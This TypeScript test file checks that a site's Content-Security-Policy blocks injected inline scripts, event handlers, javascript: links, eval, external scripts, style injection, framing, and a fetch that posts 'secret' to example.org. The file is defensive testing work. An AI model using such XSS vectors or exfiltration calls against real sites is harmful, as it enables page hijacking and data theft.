import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { withPolicy } from '../../integrations/content-security-policy.ts';
import { isAll } from '../tier.ts';
import { useSite } from './use-site.ts';

/**
 * What the Content-Security-Policy lets through. The server of the tests sends the headers that hosts send, and every
 * browser test fails where the console tells of a breach, so each feature is tried under the policy by its own test.
 */
const site = useSite();

/** What an attacker might get into a page, each with what the browser would then have done. */
const INJECTIONS: Record<string, (page: Page) => Promise<unknown>> = {
  'a script in the page': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.title = "injected"';
      document.body.append(script);
    }),
  'an event handler': (page) =>
    page.evaluate(() => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'document.title = "injected"');
      document.body.append(button);
      button.click();
    }),
  'HTML with a picture that fails': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="document.title = \'injected\'">');
    }),
  'a link that is a script': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<a href="javascript:document.title = \'injected\'">x</a>');
      document.querySelector<HTMLElement>('body > a:last-child')?.click();
    }),
  'text that is run': (page) =>
    page.evaluate(() => {
      // Not at once, for what the test itself runs is let through.
      setTimeout(() => (0, eval)('document.title = "injected"') as unknown);
    }),
  'a script of another host': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://example.org/injected.js';
      document.body.append(script);
    }),
  'a message to another host': (page) =>
    page.evaluate(() => fetch('https://example.org/', { method: 'POST', body: 'secret' }).catch(() => undefined)),
  'a form to another host': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<form action="https://example.org/" method="post"></form>');
      document.querySelector<HTMLFormElement>('body > form:last-child')?.submit();
    }),
  'another base of all addresses': (page) =>
    page.evaluate(() => {
      document.head.insertAdjacentHTML('afterbegin', '<base href="https://example.org/">');
    }),
  'an object': (page) =>
    page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<object data="/favicon.svg"></object>');
    }),
};

const openTopic = async (page: Page) => {
  await page.goto(`${site.url}/topics/transport-08/`, { waitUntil: 'networkidle' });
};

/** Has pages carry the policy themselves, as for hosts that send no headers of ours. */
async function sendInPages(page: Page): Promise<void> {
  await page.route('**/topics/**', async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    delete headers['content-security-policy'];
    await route.fulfill({ headers, body: withPolicy(await response.text(), response.url()) });
  });
  await openTopic(page);
}

describe.each([
  ['in a header', openTopic],
  ['in the page', sendInPages],
])('the policy %s', (_, open) => {
  it.skipIf(isAll)('blocks every injection, one after another on a page', async () => {
    await site.visit('/about/', {}, async (page) => {
      await open(page);
      const reached: string[] = [];
      const blocked: string[] = [];
      page.on('console', (message) => blocked.push(message.text()));
      page.on('pageerror', ({ message }) => blocked.push(message));
      await page.route('https://example.org/**', (route) => {
        reached.push(route.request().url());
        return route.abort();
      });
      for (const [what, inject] of Object.entries(INJECTIONS)) {
        blocked.length = 0;
        await inject(page);
        await expect.poll(() => blocked.join(), { message: what }).toMatch(/Content Security Policy/);
        expect(await page.title(), what).not.toBe('injected');
      }
      expect(reached).toEqual([]);
    });
  });

  it.runIf(isAll).each(Object.entries(INJECTIONS))('blocks %s', async (__, inject) => {
    const faults = await site.visit('/about/', {}, async (page) => {
      await open(page);
      const reached: string[] = [];
      await page.route('https://example.org/**', (route) => {
        reached.push(route.request().url());
        return route.abort();
      });
      await inject(page);
      await page.waitForTimeout(200);
      expect(await page.title()).not.toBe('injected');
      expect(reached).toEqual([]);
    });
    expect(faults.join('\n')).toMatch(/Content Security Policy/);
  });

  it.runIf(isAll)('lets the search work', async () => {
    const faults = await site.visit('/about/', {}, async (page) => {
      await open(page);
      await page.locator('.search-button').click();
      await page.locator('.search-dialog input').fill('报名');
      await expect.poll(() => page.locator('.search-pages .search-result').count()).toBeGreaterThan(0);
    });
    expect(faults).toEqual([]);
  });
});

it('a page that carries the policy itself has no style but its own', async () => {
  const faults = await site.visit('/about/', {}, async (page) => {
    await sendInPages(page);
    const outline = () => page.evaluate(() => getComputedStyle(document.body).outlineStyle);
    await page.evaluate(() => {
      document.head.insertAdjacentHTML('beforeend', '<style>body{outline-style:dotted}</style>');
      document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed">x</p>');
    });
    expect(await outline()).toBe('none');
    expect(await page.locator('header').evaluate((header) => getComputedStyle(header).position)).toBe('sticky');
  });
  expect(faults).toHaveLength(2);
  expect(faults.join()).toMatch(/Content Security Policy/);
});

it('no other site may show a page in a frame', async () => {
  const { headers } = await fetch(`${site.url}/`);
  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
  expect(headers.get('x-frame-options')).toBe('DENY');
});
